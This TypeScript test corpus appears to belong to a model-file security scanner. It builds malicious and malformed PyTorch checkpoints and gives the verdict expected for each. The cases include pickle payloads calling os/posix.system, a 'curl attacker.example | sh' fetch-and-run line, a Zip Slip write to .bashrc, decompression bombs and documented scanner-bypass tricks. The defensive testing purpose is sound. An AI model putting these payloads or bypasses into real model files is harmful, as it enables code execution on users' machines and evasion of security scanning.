/**
 * PyTorch corpus: torch.save zip checkpoints (torch/serialization.py `_save`, read in torch by
 * caffe2/serialize/inline_container.cc) and legacy streams (`_legacy_save`), built from hand-
 * assembled pickles (../builders/pickle.ts) and ZIPs (../builders/zip.ts). Storages that are
 * missing, short, compressed or unreferenced; views past their storage; big-endian files; pickles
 * hidden after STOP, in unreferenced members, under duplicate names; decompression bombs; path
 * traversal; TorchScript and nested-load payloads.
 */
import { concat, f32, utf8 } from '../builders/bytes.ts';
import { deflateZeroBomb } from '../builders/deflate.ts';
import { asm, stateDictPickle, systemCall, type PickleAsm } from '../builders/pickle.ts';
import { legacyKeysPickle, legacyMagicPickle, legacyProtocolPickle, legacySysInfoPickle, legacyTensor, torchLegacy, torchZip } from '../builders/torch.ts';
import type { CorpusEntry, NoticeExpectation } from '../types.ts';

const PT = 'model.pt';
const BIN = 'pytorch_model.bin';

const critical = (key: string): NoticeExpectation => ({ kind: 'unsafe-pickle-global', key, severity: 'critical' });

/** A one-tensor state dict {name: F32 [2, 2] over storage "0"} (names are unique per entry: all entries share one CLI run). */
const sd = (name: string, t: { numel?: number; size?: number[]; stride?: number[]; offset?: number; storage?: string; key?: string } = {}): Uint8Array =>
  stateDictPickle([[name, (p) => p.tensor({ key: t.key ?? '0', numel: t.numel ?? 4, size: t.size ?? [2, 2], stride: t.stride ?? [2, 1], ...(t.offset === undefined ? {} : { offset: t.offset }), ...(t.storage === undefined ? {} : { storage: t.storage }) })]])
    .stop()
    .bytesOut();

const F4 = f32(1, 2, 3, 4);

/** A benign state dict followed (after its STOP) by `tail`. */
const withTail = (name: string, tail: Uint8Array): Uint8Array => concat(sd(name), tail);

/** A payload pickle as a data.pkl value: {name: <payload>}. */
const evilDict = (name: string, payload: PickleAsm): Uint8Array => stateDictPickle([[name, (p) => p.raw(payload.bytesOut())]]).stop().bytesOut();

/** `n` nested lists around a tensor: the tensor sits n levels down. */
function tensorAtDepth(n: number): Uint8Array {
  const p = asm().proto(2);
  for (let i = 0; i < n; i++) p.emptyList();
  p.tensor({ key: '0', numel: 4, size: [4], stride: [1] }).append();
  for (let i = 1; i < n; i++) p.append();
  return p.stop().bytesOut();
}

/** Memo "billion laughs" with a tensor at the bottom: 10^levels paths to one tensor. */
function tensorLaughs(levels: number, fanout: number): Uint8Array {
  const p = asm().proto(2).emptyList().put(0).tensor({ key: '0', numel: 4, size: [4], stride: [1] }).append();
  for (let k = 1; k <= levels; k++) {
    p.emptyList().put(k).mark();
    for (let i = 0; i < fanout; i++) p.get(k - 1);
    p.appends();
  }
  return p.stop().bytesOut();
}

// ── legacy ───────────────────────────────────────────────────────────────────
const legacyObject = (name: string, numel = 4): Uint8Array => {
  const p = asm().proto(2).global('collections', 'OrderedDict').tuple(0).reduce().mark().str(name);
  legacyTensor(p, { key: '94000', numel, size: [numel], stride: [1] });
  return p.setitems().stop().bytesOut();
};
const legacyKeys = (): Uint8Array => legacyKeysPickle(['94000']);
const legacyValid = (name: string): Uint8Array => torchLegacy({ object: legacyObject(name), keys: legacyKeys(), records: [{ count: 4, data: F4 }] });
const LEGACY_HEAD = concat(legacyMagicPickle(), legacyProtocolPickle(), legacySysInfoPickle());

export const PYTORCH_ENTRIES: readonly CorpusEntry[] = [
  // ── zip: container and records ───────────────────────────────────────────
  {
    id: 'pytorch-zip/no-data-pkl',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ archive: 'archive', dataPkl: new Uint8Array(0), pklMember: { name: 'archive/data.pkx' }, storages: { '0': F4 } }).bytes,
    expect: { code: 'torch_no_data_pkl' },
    source: 'spec rule: torch/serialization.py _load — a zip checkpoint is read through <archive>/data.pkl',
  },
  {
    id: 'pytorch-zip/data-pkl-empty',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ dataPkl: new Uint8Array(0) }).bytes,
    expect: { code: 'torch_scan_incomplete', cause: 'pickle_empty' },
    source: 'spec rule: Lib/pickle.py — an empty data.pkl raises EOFError',
  },
  {
    id: 'pytorch-zip/data-pkl-truncated',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ dataPkl: sd('pz.trunc').subarray(0, 40), storages: { '0': F4 } }).bytes,
    expect: { code: 'torch_scan_incomplete', cause: 'pickle_truncated' },
    source: 'spec rule: pickletools — data.pkl cut inside the tensor rebuild (no STOP)',
  },
  {
    id: 'pytorch-zip/missing-storage',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ dataPkl: sd('pz.missing', { key: '7' }), storages: { '0': F4 } }).bytes,
    expect: { code: 'torch_missing_storage' },
    source: 'spec rule: torch/serialization.py persistent_load — every storage key has a member <archive>/data/<key>',
  },
  {
    id: 'pytorch-zip/storage-too-small',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ dataPkl: sd('pz.short', { numel: 4 }), storages: { '0': f32(1, 2) } }).bytes,
    expect: { code: 'torch_storage_too_small' },
    source: 'spec rule: torch/serialization.py — a storage of numel elements has numel × element size bytes',
  },
  {
    id: 'pytorch-zip/view-past-storage',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ dataPkl: sd('pz.view', { numel: 4, size: [2, 2], stride: [2, 1], offset: 3 }), storages: { '0': F4 } }).bytes,
    expect: { code: 'torch_storage_too_small' },
    source: 'scanner bypass: a view (offset 3, size [2,2]) reading past its storage — out-of-bounds reads in loaders that trust the pickle',
  },
  {
    id: 'pytorch-zip/stride-overflow',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ dataPkl: sd('pz.stride', { numel: 4, size: [2, 2], stride: [0x40000000, 1] }), storages: { '0': F4 } }).bytes,
    expect: { code: 'torch_storage_too_small' },
    source: 'spec rule: torch/_utils.py _rebuild_tensor — size × stride must stay inside the storage (a huge stride addresses gigabytes past it)',
  },
  {
    id: 'pytorch-zip/bad-rebuild-args',
    format: 'pytorch-zip',
    name: PT,
    build: () =>
      torchZip({
        dataPkl: stateDictPickle([['pz.badargs', (p) => p.global('torch._utils', '_rebuild_tensor_v2').mark().str('not a storage').int(0).mark().int(4).tupleMark().mark().int(1).tupleMark().raw(0x89).none().tupleMark().reduce()]]).stop().bytesOut(),
        storages: { '0': F4 },
      }).bytes,
    expect: { code: 'torch_bad_tensor' },
    source: 'spec rule: torch/_utils.py _rebuild_tensor_v2(storage, storage_offset, size, stride, …)',
  },
  {
    id: 'pytorch-zip/unknown-storage-class',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ dataPkl: sd('pz.cls', { storage: 'QuantumStorage' }), storages: { '0': F4 } }).bytes,
    expect: { code: 'torch_unsupported_dtype' },
    source: 'spec rule: torch/storage.py — storage classes are <Dtype>Storage for torch\'s dtypes',
  },
  {
    id: 'pytorch-zip/big-endian',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ dataPkl: sd('pz.be'), storages: { '0': F4 }, byteorder: 'big' }).bytes,
    expect: { code: 'torch_big_endian' },
    source: 'spec rule: torch/serialization.py — "byteorder" = "big": storages are byte-swapped relative to little-endian files',
  },
  {
    id: 'pytorch-zip/compressed-storage',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ dataPkl: sd('pz.deflated'), extra: [{ name: 'archive/data/0', data: F4, method: 8 }] }).bytes,
    expect: { code: 'torch_storage_compressed' },
    source: 'spec rule: torch/serialization.py — storages are stored uncompressed (inline_container.cc reads them in place)',
  },
  {
    id: 'pytorch-zip/duplicate-state-dict-key',
    format: 'pytorch-zip',
    name: PT,
    build: () =>
      torchZip({
        dataPkl: stateDictPickle([
          ['pz.dup', (p) => p.tensor({ key: '0', numel: 4, size: [4], stride: [1] })],
          ['pz.dup', (p) => p.tensor({ key: '1', numel: 4, size: [4], stride: [1] })],
        ])
          .stop()
          .bytesOut(),
        storages: { '0': F4, '1': f32(9, 9, 9, 9) },
      }).bytes,
    expect: { notice: { kind: 'pickle-anomaly', key: 'duplicate-key', severity: 'high' }, verdict: 'inconclusive' },
    source: 'scanner bypass: a state-dict key set twice — load_state_dict keeps the last value, a first-wins reader shows the other',
  },
  {
    id: 'pytorch-zip/data-pkl-encrypted',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ dataPkl: sd('pz.enc'), pklMember: { flags: 1 }, storages: { '0': F4 } }).bytes,
    expect: { code: 'zip_member_unreadable' },
    source: 'spec rule: APPNOTE 4.4.4 bit 0 — an encrypted data.pkl cannot be inspected (torch never encrypts)',
  },
  {
    id: 'pytorch-zip/data-pkl-bzip2',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ dataPkl: sd('pz.bz'), pklMember: { method: 12, compressed: utf8('BZh91AY&SY') }, storages: { '0': F4 } }).bytes,
    expect: { code: 'zip_member_unreadable' },
    source: 'spec rule: APPNOTE 4.4.5 — method 12 (bzip2) is not one torch or numpy writes (0 stored, 8 deflate)',
  },
  {
    id: 'pytorch-zip/data-pkl-corrupt-deflate',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ dataPkl: sd('pz.corrupt'), pklMember: { method: 8, compressed: Uint8Array.of(0xff, 0xff, 0xff, 0xff, 0x00) }, storages: { '0': F4 } }).bytes,
    expect: { code: 'zip_inflate_failed' },
    source: 'spec rule: RFC 1951 §3.2.3 — block type 11 is reserved (an error)',
  },
  {
    id: 'pytorch-zip/data-pkl-decompression-bomb',
    format: 'pytorch-zip',
    name: PT,
    // 60 KB of deflate that inflate to ~62 MB of zeros, declared as a 200-byte data.pkl.
    build: () => torchZip({ dataPkl: new Uint8Array(200), pklMember: { method: 8, compressed: deflateZeroBomb(240_000), declaredSize: 200, descriptor: false } }).bytes,
    expect: { code: 'zip_member_too_large' },
    source: 'spec rule: CWE-409 decompression bomb — a member must not inflate past its declared size (checked while inflating, memory bounded)',
  },
  {
    id: 'pytorch-zip/data-pkl-declared-4gib',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ dataPkl: new Uint8Array(200), pklMember: { method: 8, compressed: deflateZeroBomb(1000), declaredSize: 0x1_0000_0000, descriptor: false } }).bytes,
    expect: { code: 'zip_member_too_large' },
    source: 'spec rule: limits.ts MAX_ZIP_INFLATE_BYTES — a data.pkl declaring 4 GiB is refused before inflating (CWE-409)',
  },
  // ── zip: pickles where a reader does not look ──────────────────────────────
  {
    id: 'pytorch-zip/payload-in-data-pkl',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ dataPkl: evilDict('pz.evil', systemCall('curl -s https://attacker.example | sh')) }).bytes,
    expect: { notice: critical('posix.system'), verdict: 'malicious-code' },
    source: 'scanner bypass: modelscan tests unsafe_zip_pytorch.pt — posix.system in data.pkl, run by torch.load(weights_only=False)',
  },
  {
    id: 'pytorch-zip/second-pickle-after-stop',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ dataPkl: withTail('pz.after', systemCall('id').stop().bytesOut()), storages: { '0': F4 } }).bytes,
    expect: { notice: critical('posix.system'), verdict: 'malicious-code' },
    source: 'scanner bypass: a second pickle hidden in data.pkl after the state dict\'s STOP — one load() ignores it, a second load() of the same stream runs it',
  },
  {
    id: 'pytorch-zip/unreferenced-member-with-pickle',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ dataPkl: sd('pz.hidden'), storages: { '0': F4 }, extra: [{ name: 'archive/data/99', data: systemCall('id').stop().bytesOut(), descriptor: true, align: 64 }] }).bytes,
    expect: { notice: critical('posix.system'), verdict: 'malicious-code' },
    source: 'scanner bypass: a benign-looking state dict with an extra storage member no pickle references, holding a pickle for a second-stage loader',
  },
  {
    id: 'pytorch-zip/duplicate-data-pkl-last-wins',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ dataPkl: sd('pz.dupkl'), storages: { '0': F4 }, extra: [{ name: 'archive/data.pkl', data: evilDict('pz.dupkl', systemCall('id')), descriptor: true, align: 64 }] }).bytes,
    expect: { notice: critical('posix.system'), verdict: 'malicious-code' },
    source: 'scanner bypass: two members named archive/data.pkl — Python\'s zipfile (and scanners built on it) take the last, a first-wins reader scans the benign one',
  },
  {
    id: 'pytorch-zip/corrupt-member-before-data-pkl',
    format: 'pytorch-zip',
    name: PT,
    build: () =>
      torchZip({
        archive: 'archive',
        dataPkl: evilDict('pz.after-corrupt', systemCall('id')),
        pklMember: { name: 'archive/data.pkl' },
        extra: [{ name: 'archive/extra/notes.txt', data: utf8('release notes'), method: 8, compressed: Uint8Array.of(0xff, 0xff, 0xff) }],
      }).bytes,
    expect: { notice: critical('posix.system'), verdict: 'malicious-code' },
    source: 'scanner bypass: modelscan#354 — a corrupt member makes a fail-open ZIP iterator drop every later member (CLEAN), while torch.load reads data.pkl by name',
  },
  {
    id: 'pytorch-zip/local-name-differs-from-central',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ dataPkl: evilDict('pz.lname', systemCall('id')), pklMember: { localName: 'archive/data.pk_' } }).bytes,
    expect: { notice: critical('posix.system'), verdict: 'malicious-code' },
    source: 'scanner bypass: CVE-2025-1944 — a local header name that differs from the central directory crashes picklescan\'s zipfile, not torch',
  },
  {
    id: 'pytorch-zip/flag-bits-set',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ dataPkl: evilDict('pz.flags', systemCall('id')), pklMember: { flags: 0x0040 | 0x2000 } }).bytes,
    expect: { notice: critical('posix.system'), verdict: 'malicious-code' },
    source: 'scanner bypass: CVE-2025-1945 — general-purpose flag bits (strong encryption, masked header) that make Python\'s zipfile refuse the member while torch\'s miniz reads it',
  },
  {
    id: 'pytorch-zip/torchscript-constants-payload',
    format: 'pytorch-zip',
    name: PT,
    build: () =>
      torchZip({
        dataPkl: asm().proto(2).global('__torch__', 'Model').tuple(0).newobj().emptyDict().build().stop().bytesOut(),
        extra: [
          { name: 'archive/constants.pkl', data: asm().proto(2).global('os', 'system').str('id').tuple(1).reduce().tuple(1).stop().bytesOut(), descriptor: true, align: 64 },
          { name: 'archive/code/__torch__.py', data: utf8('class Model(Module):\n  pass\n'), descriptor: true, align: 64 },
        ],
      }).bytes,
    expect: { notice: critical('os.system'), verdict: 'malicious-code' },
    source: 'scanner bypass: a TorchScript archive whose constants.pkl (not data.pkl) imports os.system — scanners that read only data.pkl miss it',
  },
  {
    id: 'pytorch-zip/torch-jit-load-nested',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ dataPkl: evilDict('pz.jit', asm().global('torch.jit', 'load').global('io', 'BytesIO').mark().raw('C', 4, 'PK\x03\x04').tupleMark().reduce().tuple(1).reduce()) }).bytes,
    expect: { notice: critical('torch.jit.load'), verdict: 'malicious-code' },
    source: 'scanner bypass: torch.load-style nested loading — data.pkl calls torch.jit.load on inline bytes, a TorchScript program the outer scan never sees',
  },
  {
    id: 'pytorch-zip/path-traversal-member',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ dataPkl: sd('pz.slip'), storages: { '0': F4 }, extra: [{ name: '../../../../home/user/.bashrc', data: utf8('curl -s https://attacker.example | sh\n') }] }).bytes,
    expect: { notice: { kind: 'zip-anomaly', key: 'unsafe-path', severity: 'high' }, verdict: 'inconclusive' },
    source: 'scanner bypass: Zip Slip (CVE-2018-1002200 class) — a member name climbing out of the extraction folder',
  },
  {
    id: 'pytorch-zip/overlapping-members',
    format: 'pytorch-zip',
    name: PT,
    // A central record "archive/data/1" whose local header is data/0's: two names, one set of bytes.
    build: () => torchZip({ dataPkl: sd('pz.overlap', { key: '1' }), storages: { '0': F4 }, extra: [{ name: 'archive/data/1', data: F4, centralOnly: true, localHeaderOf: 2 }] }).bytes,
    expect: { notice: { kind: 'zip-anomaly', key: 'overlapping-members', severity: 'high' }, verdict: 'inconclusive' },
    source: 'spec rule: APPNOTE 4.3.6 — members do not overlap (overlap is the core of non-recursive zip bombs and content confusion)',
  },
  {
    id: 'pytorch-zip/tensor-nested-600-deep',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ dataPkl: tensorAtDepth(600), storages: { '0': F4 } }).bytes,
    expect: { notice: { kind: 'pickle-anomaly', key: 'walk-limit', severity: 'high' }, verdict: 'inconclusive' },
    source: 'spec rule: limits.ts MAX_PICKLE_WALK_DEPTH = 512 — a tensor hidden 600 lists deep (CWE-674 for recursive walkers)',
  },
  {
    id: 'pytorch-zip/memo-billion-laughs-tensor',
    format: 'pytorch-zip',
    name: PT,
    build: () => torchZip({ dataPkl: tensorLaughs(12, 10), storages: { '0': F4 } }).bytes,
    expect: { notice: { kind: 'pickle-anomaly', key: 'walk-limit', severity: 'high' }, verdict: 'inconclusive' },
    source: 'spec rule: limits.ts MAX_PICKLE_WALK_NODES — memo references give one tensor 10^12 key paths from 300 bytes (billion laughs against a state-dict walker)',
  },

  // ── legacy (pre-1.6) streams ───────────────────────────────────────────────
  {
    id: 'pytorch-legacy/wrong-protocol-version',
    format: 'pytorch-legacy',
    name: BIN,
    build: () => torchLegacy({ protocol: legacyProtocolPickle(1000), object: legacyObject('pl.proto'), keys: legacyKeys(), records: [{ count: 4, data: F4 }] }),
    expect: { code: 'torch_legacy_bad_magic', offset: 0 },
    source: 'spec rule: torch/serialization.py _legacy_load — the second pickle is PROTOCOL_VERSION 1001',
  },
  {
    id: 'pytorch-legacy/truncated-after-header',
    format: 'pytorch-legacy',
    name: BIN,
    build: () => LEGACY_HEAD,
    expect: { code: 'torch_legacy_bad_magic', offset: 0 },
    source: 'spec rule: torch/serialization.py _legacy_save — five pickles; the file ends after the third',
  },
  {
    id: 'pytorch-legacy/truncated-inside-object',
    format: 'pytorch-legacy',
    name: BIN,
    build: () => legacyValid('pl.obj').subarray(0, LEGACY_HEAD.length + 30),
    expect: { code: 'torch_legacy_bad_magic', offset: 0, alsoCodes: ['torch_scan_incomplete'] },
    source: 'spec rule: torch/serialization.py _legacy_save — the file ends inside the object pickle',
  },
  {
    id: 'pytorch-legacy/truncated-inside-count',
    format: 'pytorch-legacy',
    name: BIN,
    build: () => legacyValid('pl.count').subarray(0, legacyValid('pl.count').length - 16 - 4),
    expect: { code: 'truncated', alsoCodes: ['torch_missing_storage'] },
    source: 'spec rule: torch/serialization.py _legacy_save — each storage starts with a u64 element count',
  },
  {
    id: 'pytorch-legacy/truncated-inside-storage',
    format: 'pytorch-legacy',
    name: BIN,
    build: () => legacyValid('pl.data').subarray(0, legacyValid('pl.data').length - 3),
    expect: { code: 'truncated', alsoCodes: ['torch_missing_storage'] },
    source: 'spec rule: torch/serialization.py _legacy_save — count × element size bytes follow the count',
  },
  {
    id: 'pytorch-legacy/count-mismatch',
    format: 'pytorch-legacy',
    name: BIN,
    build: () => torchLegacy({ object: legacyObject('pl.mismatch'), keys: legacyKeys(), records: [{ count: 3, data: F4 }] }),
    expect: { code: 'torch_legacy_storage_mismatch', alsoCodes: ['torch_missing_storage'] },
    source: 'spec rule: torch/serialization.py _legacy_load — the record\'s element count equals the pickle\'s numel',
  },
  {
    id: 'pytorch-legacy/count-2p64-minus-1',
    format: 'pytorch-legacy',
    name: BIN,
    build: () => torchLegacy({ object: legacyObject('pl.hugecount'), keys: legacyKeys(), records: [{ count: (1n << 64n) - 1n, data: F4 }] }),
    expect: { code: 'torch_legacy_storage_mismatch', alsoCodes: ['torch_missing_storage'] },
    source: 'spec rule: a storage element count of 2^64-1 (allocation size from the file; _legacy_load checks it against the pickle)',
  },
  {
    id: 'pytorch-legacy/unlisted-storage-key',
    format: 'pytorch-legacy',
    name: BIN,
    build: () => torchLegacy({ object: legacyObject('pl.key'), keys: legacyKeysPickle(['12345']), records: [{ count: 4, data: F4 }] }),
    expect: { code: 'torch_legacy_storage_mismatch', alsoCodes: ['torch_missing_storage'] },
    source: 'spec rule: torch/serialization.py _legacy_save — the key list names exactly the storages the object uses',
  },
  {
    id: 'pytorch-legacy/big-endian',
    format: 'pytorch-legacy',
    name: BIN,
    build: () => torchLegacy({ sysInfo: legacySysInfoPickle(false), object: legacyObject('pl.be'), keys: legacyKeys(), records: [{ count: 4n << 56n, data: F4 }] }),
    expect: { code: 'torch_big_endian' },
    source: 'spec rule: torch/serialization.py sys_info little_endian = False — counts and elements are byte-swapped',
  },
  {
    id: 'pytorch-legacy/payload-in-object',
    format: 'pytorch-legacy',
    name: BIN,
    build: () => torchLegacy({ object: systemCall('echo pwned').stop().bytesOut(), keys: legacyKeysPickle([]), records: [] }),
    expect: { notice: critical('posix.system'), verdict: 'malicious-code' },
    source: 'scanner bypass: a legacy stream whose object pickle is posix.system — torch.load runs it after checking the magic',
  },
  {
    id: 'pytorch-legacy/magic-forged-by-eval',
    format: 'pytorch-legacy',
    name: BIN,
    build: () =>
      concat(
        asm().proto(2).global('__builtin__', 'eval').put(0).str('0x1950A86A20F9469CFC6C').put(1).tuple(1).put(2).reduce().put(3).stop().bytesOut(),
        legacyProtocolPickle(),
        legacySysInfoPickle(),
        systemCall('echo pwned').stop().bytesOut(),
        legacyKeysPickle([]),
      ),
    expect: { code: 'torch_legacy_bad_magic', notice: critical('__builtin__.eval'), verdict: 'malicious-code' },
    source: 'scanner bypass: picklescan pytorch_magic_bypass.pt — the magic number computed by eval() so the file starts like a pickle, not like a legacy checkpoint',
  },
  {
    id: 'pytorch-legacy/data-after-storages',
    format: 'pytorch-legacy',
    name: BIN,
    build: () => concat(legacyValid('pl.trailing'), systemCall('id').stop().bytesOut()),
    expect: { notice: critical('posix.system'), verdict: 'malicious-code' },
    source: 'scanner bypass: a pickle appended after the last storage record — torch.load never reads it, a second-stage loader does',
  },
];

